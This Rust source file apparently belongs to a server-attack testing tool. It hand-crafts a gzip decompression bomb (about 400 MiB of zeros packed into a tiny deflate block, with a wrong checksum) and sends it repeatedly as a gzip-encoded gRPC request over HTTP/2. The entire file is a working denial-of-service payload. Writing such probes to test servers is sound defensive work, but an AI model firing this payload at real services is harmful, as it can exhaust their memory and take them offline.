//! A message that is small until it is unpacked.

use std::io;

use super::{ANSWER, CREATE, Scene, call};
use crate::attacks::frames::{Frames, enveloped, flag};
use crate::attacks::got::Got;

/// Unpacked, and what a pair of length and distance stands for at most (RFC 1951).
const UNPACKED: usize = 400 << 20;
const RUN: usize = 258;

pub(super) fn explode(scene: &Scene) -> io::Result<Got> {
    let body = enveloped(1, &zeros());
    scene.again_and_again(&[], |_, connection| {
        let stream = connection.next_stream();
        let headers = [&call(CREATE)[..], &[("grpc-encoding", "gzip")]].concat();
        connection.send(&Frames::default().headers(stream, &headers, 0));
        connection.upload(stream, &body, flag::END_STREAM, scene.left());
        connection.hear_answers(1, ANSWER.min(scene.left()));
    })
}

/// Zeros as gzip, in one block of fixed codes. The checksum is wrong, which shows when all is unpacked.
fn zeros() -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3], held: 0, count: 0 };
    bits.push(&[1, 1, 0]);
    bits.push(&[0, 0, 1, 1, 0, 0, 0, 0]);
    for _ in 0..UNPACKED / RUN {
        bits.push(&[1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]);
    }
    bits.push(&[0; 7]);
    bits.push(&[0; 7]);
    [bits.bytes, vec![0; 8]].concat()
}

/// Bits, the first one in the lowest place of a byte.
struct Bits {
    bytes: Vec<u8>,
    held: u8,
    count: u32,
}

impl Bits {
    fn push(&mut self, bits: &[u8]) {
        for bit in bits {
            self.held |= bit << self.count;
            self.count += 1;
            if self.count == 8 {
                self.bytes.push(self.held);
                (self.held, self.count) = (0, 0);
            }
        }
    }
}
